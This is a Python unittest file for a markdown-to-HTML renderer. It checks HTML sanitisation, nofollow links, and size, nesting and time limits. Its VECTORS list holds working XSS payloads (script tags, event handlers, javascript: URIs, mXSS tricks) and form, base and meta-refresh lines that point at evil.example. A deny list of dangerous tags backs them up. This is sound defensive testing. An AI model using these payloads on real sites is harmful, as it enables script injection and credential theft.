"""Markdown of staff becomes HTML that cannot do harm, in bounded time."""

import unittest

from kb.markup import MAX_BRACKETS, MAX_BYTES, MarkupError, render
from tests.guards import it_ends

VECTORS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>body{display:none}</style>",
    "<object data='javascript:alert(1)'></object>",
    "<form action='https://evil.example'><input name=password></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<div onmouseover=alert(1)>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<!--><img src=x onerror=alert(1)>-->",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '![x](x.png "onerror=alert(1)")',
    '![x" onerror=alert(1)](y)',
    '[x](https://a.b/"onmouseover="alert(1))',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "``` { .x onclick=alert(1) }\nx\n```",
    "# x {: onclick=alert(1) }",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "*x*{: style='x' }",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)
DANGERS = (
    "<script",
    "<img",
    "<svg",
    "<iframe",
    "<style",
    "<object",
    "<form",
    "<input",
    "<base",
    "<meta",
    "<math",
    "<details",
)


class SafetyTests(unittest.TestCase):
    def test_no_vector_gets_through(self):
        for vector in VECTORS:
            with self.subTest(vector=vector):
                html = render(vector).lower()
                self.assertFalse([danger for danger in DANGERS if danger in html], html)
                self.assertNotRegex(html, r"<[^>]*\s(?:on\w+|style|src|srcset|action)\s*=")
                self.assertNotRegex(html, r"<[^>]*(?:javascript|vbscript|data):")

    def test_no_inline_style_stands_in_tables_or_code(self):
        html = render("| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n```zsh\nexport A=1\n```")
        self.assertNotIn("style=", html)
        self.assertIn('<th align="center">', html)

    def test_ids_stand_on_headings_only_and_carry_the_prefix(self):
        html = render("### Cookie\n\n### Cookie\n\nlocation\n---", prefix="cause")
        self.assertIn('<h3 id="cause-cookie">', html)
        self.assertIn('id="cause-cookie_1"', html)
        self.assertNotRegex(html, r"<h[12]")

    def test_classes_are_those_of_highlighted_code(self):
        html = render('```zsh\nexport A="b" # c\n```')
        self.assertIn('<div class="codehilite">', html)
        self.assertIn('<span class="c1">', html)
        self.assertRegex(html, r"<pre>(<span></span>)?<code>")


class LinkTests(unittest.TestCase):
    CASES = (
        ("[x](https://example.com/)", True),
        ("<https://example.com/>", True),
        ("[x](//example.com/)", True),
        ("[x][1]\n\n[1]: http://example.com", True),
        ("[x](/articles/other/)", False),
        ("[x](#cause)", False),
        ("<mailto:a@example.com>", False),
    )

    def test_only_links_that_lead_away_say_nofollow(self):
        for text, away in self.CASES:
            with self.subTest(text=text):
                html = render(text)
                self.assertIn("<a href", html)
                self.assertEqual('rel="nofollow noopener"' in html, away, html)


class LimitTests(unittest.TestCase):
    def test_a_text_that_is_too_large_is_refused(self):
        with self.assertRaisesRegex(MarkupError, "at most 64 KB"):
            render("ä" * (MAX_BYTES // 2 + 1))

    def test_too_many_brackets_in_a_paragraph_are_refused_with_their_line(self):
        with self.assertRaises(MarkupError) as caught:
            render("One.\n\nTwo:\n" + "[" * (MAX_BRACKETS + 1))
        self.assertEqual(caught.exception.line, 3)

    def test_brackets_in_many_paragraphs_are_fine(self):
        self.assertEqual(render("[x]\n\n" * 600).count("<p>"), 600)

    def test_deep_nesting_is_refused_or_shown_but_never_crashes(self):
        for text in (
            "> " * 3000 + "x",
            "\n".join("    " * depth + "- x" for depth in range(150)),
            "*" * 5000,
            "- " * 5000,
        ):
            with self.subTest(text=text[:12]):
                try:
                    self.assertIsInstance(render(text), str)
                except MarkupError as error:
                    self.assertIn("Line ", str(error))

    def test_time_is_bounded(self):
        texts = (
            ("[" * 500 + "\n\n") * 20,
            "*a **b " * 2000,
            "`" * 20_000,
            "<" * 20_000,
            "\\" * 20_000,
            "&#" * 10_000,
            "_a" * 9000,
        )
        for text in texts:
            with self.subTest(text=text[:10]), it_ends():
                try:
                    render(text)
                except MarkupError:
                    continue

    def test_nothing_gives_nothing(self):
        self.assertEqual(render(" \n"), "")
